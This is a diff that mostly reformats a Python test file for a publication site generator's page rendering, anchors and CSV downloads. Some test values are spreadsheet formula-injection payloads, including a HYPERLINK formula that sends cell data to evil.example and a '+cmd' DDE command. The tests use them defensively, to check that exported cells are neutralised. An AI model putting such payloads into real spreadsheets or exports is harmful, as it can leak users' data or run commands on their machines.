@@ -5,8 +5,8 @@ from __future__ import annotations
 import datetime as dt
 
 import pytest
-
 from conftest import FIXTURES
+
 from publication.load import load_publication
 from publication.model import Kind, Nation
 from publication.pages import PageRenderer
@@ -28,8 +28,10 @@ def test_the_catalogue_resolves_every_reference_once():
     entry = catalogue.recommendations["invest-in-the-hyperlocal"]
     assert entry.proposition.id == "future-can-be-local"
     assert entry.source.id == "the-paper"
-    assert [e.id for e in catalogue.proposition_evidence("future-can-be-local")] == ["the-paper",
-                                                                                      "treorchy-high-street"]
+    assert [e.id for e in catalogue.proposition_evidence("future-can-be-local")] == [
+        "the-paper",
+        "treorchy-high-street",
+    ]
 
 
 def test_the_catalogue_indexes_evidence_by_nation_kind_theme_and_actor():
@@ -44,10 +46,13 @@ def test_the_catalogue_indexes_evidence_by_nation_kind_theme_and_actor():
 def test_a_proposition_page_lists_recommendations_with_anchors_and_evidence_by_kind():
     page = PageRenderer(load_minimal(), "Site").proposition_page(load_minimal().records["future-can-be-local"])
 
-    assert '### Recommendation 6: Invest in the hyperlocal {#invest-in-the-hyperlocal}' in page
+    assert "### Recommendation 6: Invest in the hyperlocal {#invest-in-the-hyperlocal}" in page
     assert "**Who should act:** Funders and UK Government" in page
     assert "*Made as recommendation 6 in [The paper](../evidence/the-paper.md) (Example Trust, 2020).*" in page
-    assert "### Case studies {#section_case-studies}\n\n- [Treorchy high street](../evidence/treorchy-high-street.md)" in page
+    assert (
+        "### Case studies {#section_case-studies}\n\n- [Treorchy high street](../evidence/treorchy-high-street.md)"
+        in page
+    )
     assert "### Reports {#section_reports}\n\n- [The paper](../evidence/the-paper.md)" in page
     assert "See [Treorchy high street](../evidence/treorchy-high-street.md)." in page
 
@@ -58,9 +63,11 @@ def test_an_evidence_page_says_what_where_when_and_links_back():
 
     assert "Where\n:   Treorchy, Rhondda Cynon Taf ([Wales](../browse/nation-wales.md))" in page
     assert "When\n:   January 2019 to June 2020" in page
-    assert ("- Proposition 3: [The future can be local (as well as global)](../propositions/future-can-be-local.md), "
-            "recommendation [Invest in the hyperlocal](../propositions/future-can-be-local.md#invest-in-the-hyperlocal)."
-            " Local people built it up together.") in page
+    assert (
+        "- Proposition 3: [The future can be local (as well as global)](../propositions/future-can-be-local.md), "
+        "recommendation [Invest in the hyperlocal](../propositions/future-can-be-local.md#invest-in-the-hyperlocal)."
+        " Local people built it up together."
+    ) in page
 
 
 def test_the_print_edition_links_references_within_the_page():
@@ -90,9 +97,13 @@ def test_a_reference_written_in_code_is_shown_as_written(tmp_path):
 
     shutil.copytree(FIXTURES / "minimal", tmp_path / "records")
     record = tmp_path / "records" / "evidence" / "treorchy-high-street.yml"
-    record.write_text(record.read_text(encoding="utf-8").replace(
-        "summary: A thriving high street in the Rhondda.",
-        "summary: Link a record with `[[its-id]]`, as in [[the-paper]]."), encoding="utf-8")
+    record.write_text(
+        record.read_text(encoding="utf-8").replace(
+            "summary: A thriving high street in the Rhondda.",
+            "summary: Link a record with `[[its-id]]`, as in [[the-paper]].",
+        ),
+        encoding="utf-8",
+    )
 
     result = load_publication(tmp_path / "records", today=TODAY)
 
@@ -104,8 +115,10 @@ def test_a_reference_written_in_code_is_shown_as_written(tmp_path):
 def test_record_html_cannot_load_from_other_hosts_or_take_material_ids():
     from publication.richtext import sanitise_html
 
-    html = ('<p id="__search">x<img src="https://tracker.example/p.png" alt="a">'
-            '<img src="../assets/map.png" alt="b"></p><nav>menu</nav><input type="checkbox">')
+    html = (
+        '<p id="__search">x<img src="https://tracker.example/p.png" alt="a">'
+        '<img src="../assets/map.png" alt="b"></p><nav>menu</nav><input type="checkbox">'
+    )
 
     assert sanitise_html(html) == '<p>x<img alt="a"><img src="../assets/map.png" alt="b"></p>menu'
 
@@ -120,7 +133,7 @@ def _records_with_formulas(tmp_path):
     shutil.copytree(FIXTURES / "minimal", tmp_path / "records")
     edits = {
         "evidence/treorchy-high-street.yml": [
-            ("title: Treorchy high street", "title: '=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")'"),
+            ("title: Treorchy high street", 'title: \'=HYPERLINK("https://evil.example/?"&A1, "Click")\''),
             ("name: Treorchy,", "name: \"+cmd|' /C calc'!A0\","),
         ],
         "propositions/future-can-be-local.yml": [
@@ -155,15 +168,23 @@ def test_a_cell_that_would_start_a_formula_is_written_as_text_in_every_csv_downl
     recommendations = _csv_rows(files[exports.RECOMMENDATIONS_CSV])
 
     treorchy = evidence["treorchy-high-street"]
-    assert treorchy["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")"
+    assert treorchy["title"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
     assert treorchy["places"] == "'+cmd|' /C calc'!A0"
     assert recommendations[0]["title"] == "'@SUM(A1:A9)"
     assert recommendations[0]["actors"] == "'-2+3; UK Government; '=1+1"  # each of a list: split at '; '?
     # Ordinary cells are as the records have them.
     assert evidence["the-paper"] == {
-        "id": "the-paper", "kind": "report", "title": "The paper", "places": "United Kingdom",
-        "nations": "uk-wide", "period_start": "", "period_end": "", "propositions": "future-can-be-local",
-        "recommendations": "invest-in-the-hyperlocal", "published": "2020-07-23"}
+        "id": "the-paper",
+        "kind": "report",
+        "title": "The paper",
+        "places": "United Kingdom",
+        "nations": "uk-wide",
+        "period_start": "",
+        "period_end": "",
+        "propositions": "future-can-be-local",
+        "recommendations": "invest-in-the-hyperlocal",
+        "published": "2020-07-23",
+    }
     assert treorchy["period_start"] == "2019-01"
     assert recommendations[0]["made_by"] == "the-paper"
 
@@ -175,23 +196,27 @@ def test_every_csv_cell_is_quoted_so_no_separator_inside_one_starts_a_new_cell(t
 
     assert text.splitlines() == [
         '"id","number","title","proposition","actors","made_by"',
-        '"invest-in-the-hyperlocal","6","\'@SUM(A1:A9)","future-can-be-local","\'-2+3; UK Government; \'=1+1","the-paper"',
+        '"invest-in-the-hyperlocal","6","\'@SUM(A1:A9)","future-can-be-local",'
+        '"\'-2+3; UK Government; \'=1+1","the-paper"',
     ]
 
 
-@pytest.mark.parametrize("cell, written", [
-    ("=HYPERLINK(\"https://evil.example\")", "'=HYPERLINK(\"https://evil.example\")"),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("\n=1+1", "'\n=1+1"),
-    ("Treorchy", "Treorchy"),
-    ("A = B + C - D @ E", "A = B + C - D @ E"),
-    ("'quoted already", "'quoted already"),
-    ("", ""),
-])
+@pytest.mark.parametrize(
+    "cell, written",
+    [
+        ('=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("Treorchy", "Treorchy"),
+        ("A = B + C - D @ E", "A = B + C - D @ E"),
+        ("'quoted already", "'quoted already"),
+        ("", ""),
+    ],
+)
 def test_only_a_cell_that_starts_like_a_formula_gets_the_single_quote(cell, written):
     import csv
     import io
@@ -206,30 +231,43 @@ def test_only_a_cell_that_starts_like_a_formula_gets_the_single_quote(cell, writ
 def test_the_downloads_page_says_how_csv_cells_are_made_safe():
     page = PageRenderer(load_minimal(), "Site").downloads_page()
 
-    assert ("Every cell of the CSV files is in double quotes, and a cell that would begin with `=`, `+`, `-`, "
-            "`@`, a tab or a line break begins with a single quote (`'`) instead, so that a spreadsheet shows "
-            "it as text and never runs it as a formula.") in page
+    assert (
+        "Every cell of the CSV files is in double quotes, and a cell that would begin with `=`, `+`, `-`, "
+        "`@`, a tab or a line break begins with a single quote (`'`) instead, so that a spreadsheet shows "
+        "it as text and never runs it as a formula."
+    ) in page
 
 
 # -- anchors ------------------------------------------------------------------------------------------------
 
-SECTION_NAMED_IDS = ["evidence", "history", "contents", "sources", "at-a-glance", "what-it-supports",
-                     "section-top", "by-nation"]
+SECTION_NAMED_IDS = [
+    "evidence",
+    "history",
+    "contents",
+    "sources",
+    "at-a-glance",
+    "what-it-supports",
+    "section-top",
+    "by-nation",
+]
 
 
 def _evidence_named(record_id: str, recommendation: str) -> str:
-    return (f"id: {record_id}\nkind: case-study\ntitle: Named {record_id}\nsummary: Its id is a section's name.\n"
-            "places:\n  - {name: Treorchy, nation: wales}\nsupports:\n  - proposition: future-can-be-local\n"
-            f"    recommendation: {recommendation}\n    how: It shows it.\n"
-            "sources:\n  - {title: A source, publisher: LocalGov}\npublished: 2020-12-02\n")
+    return (
+        f"id: {record_id}\nkind: case-study\ntitle: Named {record_id}\nsummary: Its id is a section's name.\n"
+        "places:\n  - {name: Treorchy, nation: wales}\nsupports:\n  - proposition: future-can-be-local\n"
+        f"    recommendation: {recommendation}\n    how: It shows it.\n"
+        "sources:\n  - {title: A source, publisher: LocalGov}\npublished: 2020-12-02\n"
+    )
 
 
 def _ids_and_links(html: str) -> tuple[list[str], list[str]]:
     import lxml.html
 
     doc = lxml.html.document_fromstring(html)
-    return [e.get("id") for e in doc.iter() if isinstance(e.tag, str) and e.get("id")], \
-        [e.get("href") for e in doc.iter("a") if e.get("href")]
+    return [e.get("id") for e in doc.iter() if isinstance(e.tag, str) and e.get("id")], [
+        e.get("href") for e in doc.iter("a") if e.get("href")
+    ]
 
 
 def test_records_named_like_a_page_section_leave_every_anchor_unique_and_every_link_resolving(tmp_path):
@@ -242,17 +280,27 @@ def test_records_named_like_a_page_section_leave_every_anchor_unique_and_every_l
     for n, record_id in enumerate(SECTION_NAMED_IDS):
         project.write(f"evidence/{record_id}.yml", _evidence_named(record_id, recommendations[n % 3]))
     proposition = project.root / "propositions" / "future-can-be-local.yml"
-    proposition.write_text(proposition.read_text(encoding="utf-8").replace("recommendations:\n", (
-        "recommendations:\n"
-        "  - {id: recommendations, title: Named like the section, text: Its id is a section's name., actors: [Funders!]}\n"
-        "  - {id: case-studies, title: Named like a kind, text: Its id is a heading's., actors: ['-2+3']}\n"
-        "  - {id: follow-this-proposition, title: Named like the last section, text: Again., actors: []}\n")),
-        encoding="utf-8")
+    proposition.write_text(
+        proposition.read_text(encoding="utf-8").replace(
+            "recommendations:\n",
+            (
+                "recommendations:\n"
+                "  - {id: recommendations, title: Named like the section, text: Its id is a section's name.,"
+                " actors: [Funders!]}\n"
+                "  - {id: case-studies, title: Named like a kind, text: Its id is a heading's., actors: ['-2+3']}\n"
+                "  - {id: follow-this-proposition, title: Named like the last section, text: Again., actors: []}\n"
+            ),
+        ),
+        encoding="utf-8",
+    )
     built = project.build()
     assert built.returncode == 0, built.stderr
 
-    pages = {p.relative_to(project.site).as_posix(): p.read_text(encoding="utf-8")
-             for p in project.site.rglob("*.html") if "assets" not in p.parts}
+    pages = {
+        p.relative_to(project.site).as_posix(): p.read_text(encoding="utf-8")
+        for p in project.site.rglob("*.html")
+        if "assets" not in p.parts
+    }
     ids = {}
     for path, html in pages.items():
         found, _ = _ids_and_links(html)
@@ -268,20 +316,31 @@ def test_records_named_like_a_page_section_leave_every_anchor_unique_and_every_l
             page = page + "index.html" if page.endswith("/") or not page else page
             assert unquote(target.fragment) in ids.get(page, ()), f"{path}: {href} leads nowhere"
             checked.add((path, href))
-    assert {("print/index.html", "#evidence"), ("print/index.html", "#section_evidence"),
-            ("print/index.html", "#recommendations"),
-            ("evidence/evidence/index.html", "../../propositions/future-can-be-local/#recommendations"),
-            ("evidence/history/index.html", "../../propositions/future-can-be-local/#case-studies"),
-            ("propositions/future-can-be-local/index.html", "#section_history")} <= checked
+    assert {
+        ("print/index.html", "#evidence"),
+        ("print/index.html", "#section_evidence"),
+        ("print/index.html", "#recommendations"),
+        ("evidence/evidence/index.html", "../../propositions/future-can-be-local/#recommendations"),
+        ("evidence/history/index.html", "../../propositions/future-can-be-local/#case-studies"),
+        ("propositions/future-can-be-local/index.html", "#section_history"),
+    } <= checked
 
     # Records keep their anchors; the page's own sections take a form no record id can.
     proposition_ids = ids["propositions/future-can-be-local/index.html"]
     assert {"recommendations", "case-studies", "follow-this-proposition"} <= proposition_ids
-    assert {"section_recommendations", "section_evidence", "section_case-studies", "section_history",
-            "section_follow-this-proposition"} <= proposition_ids
-    assert {"evidence", "history", "contents", "sources", "section_evidence", "section_contents"} <= ids["print/index.html"]
-    assert {"section_at-a-glance", "section_what-it-supports", "section_sources",
-            "section_history"} <= ids["evidence/at-a-glance/index.html"]
+    assert {
+        "section_recommendations",
+        "section_evidence",
+        "section_case-studies",
+        "section_history",
+        "section_follow-this-proposition",
+    } <= proposition_ids
+    assert {"evidence", "history", "contents", "sources", "section_evidence", "section_contents"} <= ids[
+        "print/index.html"
+    ]
+    assert {"section_at-a-glance", "section_what-it-supports", "section_sources", "section_history"} <= ids[
+        "evidence/at-a-glance/index.html"
+    ]
     assert {"actor_funders", "actor_23", "section_not-named-in-the-source"} <= ids["recommendations/index.html"]
 
 
@@ -291,5 +350,11 @@ def test_names_that_give_one_slug_get_numbered_anchors():
     anchor = Unique(ACTOR_PREFIX)
 
     assert [anchor(name) for name in ["Funders", "Funders!", "funders-2", "FUNDERS", "Funders", "!!!", "+-_"]] == [
-        "actor_funders", "actor_funders-2", "actor_funders-2-2", "actor_funders-3", "actor_funders",
-        "actor_unnamed", "actor_unnamed-2"]
+        "actor_funders",
+        "actor_funders-2",
+        "actor_funders-2-2",
+        "actor_funders-3",
+        "actor_funders",
+        "actor_unnamed",
+        "actor_unnamed-2",
+    ]
